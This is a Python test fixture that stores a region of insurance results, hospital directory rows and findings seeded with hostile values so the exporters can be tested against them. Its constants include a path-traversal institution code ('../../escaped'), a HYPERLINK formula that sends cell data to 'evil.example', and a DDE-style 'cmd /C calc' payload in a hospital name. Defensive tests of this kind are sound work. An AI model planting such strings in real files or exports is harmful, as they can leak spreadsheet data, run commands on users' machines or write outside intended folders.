"""A small stored region whose data carries hostile text: an institution code that climbs out of
the output folder, names and notes that a spreadsheet would run as formulas, negative numbers."""

from __future__ import annotations

from datetime import datetime, timezone
from decimal import Decimal
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

from liangjiadi import lake
from liangjiadi.anomalies.model import Finding, findings_table
from liangjiadi.runs import run_dir
from liangjiadi.checks import load_catalogue, run_checks
from liangjiadi.config import Settings
from liangjiadi.indicators.results import RESULT_SCHEMA, save_results

REGION, PERIOD = "140400", "2025-03"
# climbs from <out>/定向推送/ to the test's own tmp folder (the attack used /tmp/x)
EVIL_CODE = "../../escaped"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
HOSPITALS = [("H001", "第一人民医院", "02"), ("H002", FORMULA, "03"), (EVIL_CODE, "@SUM(1+1)*cmd|' /C calc'!A0", "05")]


def make_settings(tmp_path: Path) -> Settings:
    return Settings(workdir=tmp_path / "work", region_admdvs=REGION, duckdb_threads=1, duckdb_memory_limit="512MB",
                    pseudonym_key="x" * 40, pseudonym_key_file=tmp_path / "pseudonym.key",
                    release_seal_key_file=tmp_path / "release-seal.key")


def _row(indicator_id, value, code=None, *, note=None, numerator=None, denominator=None, run_id="R2025"):
    meta = load_catalogue().get(str(indicator_id))
    dec = lambda v: None if v is None else Decimal(str(v))  # noqa: E731
    return {"admdvs": REGION, "period": PERIOD, "indicator_id": str(indicator_id),
            "scope": "institution" if code else "region", "fixmedins_code": code, "value": dec(value),
            "numerator": dec(numerator), "denominator": dec(denominator),
            "basis": meta.basis if meta else "period", "note": note, "run_id": run_id,
            "computed_at": datetime(2025, 4, 5, tzinfo=timezone.utc)}


def store_region(settings: Settings) -> Settings:
    """Results (one region value negative, one note a formula), the directory, a check, findings."""
    rows = []
    for meta in load_catalogue():
        if meta.is_heading or not meta.id.isdigit() or int(meta.id) > 49 or meta.scope == "institution":
            continue
        value = 0.1234 if meta.unit == "ratio" else (1000 if meta.unit == "count" else 12_345.6)
        rows.append(_row(meta.id, value))
    rows = [r for r in rows if r["indicator_id"] != "38"] + [_row("38", "-12.5", note="=1+1")]
    for n, (code, _, _) in enumerate(HOSPITALS, start=1):
        rows += [_row("36", 1_000_000 * n, code), _row("39", 100 * n, code),
                 _row("37", 10_000, code, numerator=1_000_000 * n, denominator=100 * n),
                 _row("38", -2000 * n, code), _row("10", 500_000 * n, code)]
    save_results(settings.workdir, REGION, PERIOD, pa.Table.from_pylist(rows, schema=RESULT_SCHEMA), "R2025")
    lake.write_rows(settings.workdir, "fixmedins", [
        {"fixmedins_code": c, "fixmedins_name": n, "fixmedins_type": "1", "hosp_lv": lv, "admdvs": REGION}
        for c, n, lv in HOSPITALS], REGION)
    lake.write_rows(settings.workdir, "setl_d", [{"setl_id": "S1", "psn_no": "t" * 32,
                                                 "setl_time": f"{PERIOD}-05 10:00:00", "period": PERIOD}], REGION)
    run_checks(PERIOD, settings)
    findings = [Finding(pattern="readmission_15d", period=PERIOD, severity="medium", fixmedins_code="H002",
                        score=2.0, message=FORMULA, evidence={"own": -0.5, "peer_median": 0.05})]
    out = run_dir(settings.workdir, "findings", REGION, PERIOD)
    out.mkdir(parents=True, exist_ok=True)
    pq.write_table(findings_table(findings, "F1"), out / "F1.parquet")
    return settings
